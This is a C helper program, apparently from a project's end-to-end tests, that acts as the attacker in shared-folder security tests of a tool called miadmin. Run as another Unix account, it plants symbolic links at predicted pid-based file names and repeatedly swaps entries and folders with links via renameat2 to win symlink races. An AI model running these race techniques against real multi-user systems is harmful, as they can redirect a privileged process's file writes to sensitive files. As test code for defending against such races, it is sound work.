// The attacker of the shared-folder tests (Tests/MIAdminEndToEndTests/SharedFolderTests.swift,
// Scripts/race-test, docs/security.md "Files in shared folders"). Runs as another Unix account
// than the victim's miadmin, in a folder both can write. Compiled by the test with `cc`.
//
//   attacker plant DIR FORMAT TARGET FROM TO
//       symbolic links DIR/<FORMAT with %d = n> -> TARGET for n in FROM..TO (predicted pids)
//   attacker swap-prefix DIR PREFIX TARGET STOPFILE
//       until STOPFILE exists: every entry of DIR whose name starts with PREFIX (not a link) is
//       exchanged (renameat2 RENAME_EXCHANGE) with a new link to TARGET
//   attacker exchange A B STOPFILE
//       until STOPFILE exists: exchange A and B (a folder and a link to a folder) again and again
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int stopped(const char *stopfile) { return access(stopfile, F_OK) == 0; }

// The number of swaps made, written to STOPFILE.count for the test's report.
static void report(const char *stopfile, unsigned long swaps) {
    char path[4096];
    snprintf(path, sizeof path, "%s.count", stopfile);
    FILE *out = fopen(path, "w");
    if (out) { fprintf(out, "%lu\n", swaps); fclose(out); }
}

int main(int argc, char **argv) {
    if (argc == 7 && strcmp(argv[1], "plant") == 0) {
        char path[4096], name[1024];
        for (long n = atol(argv[5]); n <= atol(argv[6]); n++) {
            snprintf(name, sizeof name, argv[3], (int)n);
            snprintf(path, sizeof path, "%s/%s", argv[2], name);
            symlink(argv[4], path);
        }
        return 0;
    }
    if (argc == 6 && strcmp(argv[1], "swap-prefix") == 0) {
        const char *dir = argv[2], *prefix = argv[3], *target = argv[4];
        int dirfd = open(dir, O_RDONLY | O_DIRECTORY);
        if (dirfd < 0) { perror(dir); return 1; }
        size_t length = strlen(prefix);
        unsigned long swaps = 0, n = 0;
        while (!stopped(argv[5])) {
            DIR *stream = fdopendir(dup(dirfd));
            if (!stream) return 1;
            rewinddir(stream);  // the dup shares the descriptor's offset: start from the top each time
            struct dirent *entry;
            while ((entry = readdir(stream))) {
                if (strncmp(entry->d_name, prefix, length) != 0 || entry->d_type == DT_LNK) continue;
                char link[64];
                snprintf(link, sizeof link, ".attacker-%lu", n++);
                if (symlinkat(target, dirfd, link) != 0) continue;
                if (renameat2(dirfd, link, dirfd, entry->d_name, RENAME_EXCHANGE) == 0) swaps++;
                else unlinkat(dirfd, link, 0);
            }
            closedir(stream);
        }
        report(argv[5], swaps);
        return 0;
    }
    if (argc == 5 && strcmp(argv[1], "exchange") == 0) {
        unsigned long swaps = 0;
        while (!stopped(argv[4])) {
            for (int i = 0; i < 1000; i++)
                if (renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE) == 0) swaps++;
        }
        report(argv[4], swaps);
        return 0;
    }
    fprintf(stderr, "usage: attacker plant|swap-prefix|exchange ...\n");
    return 2;
}
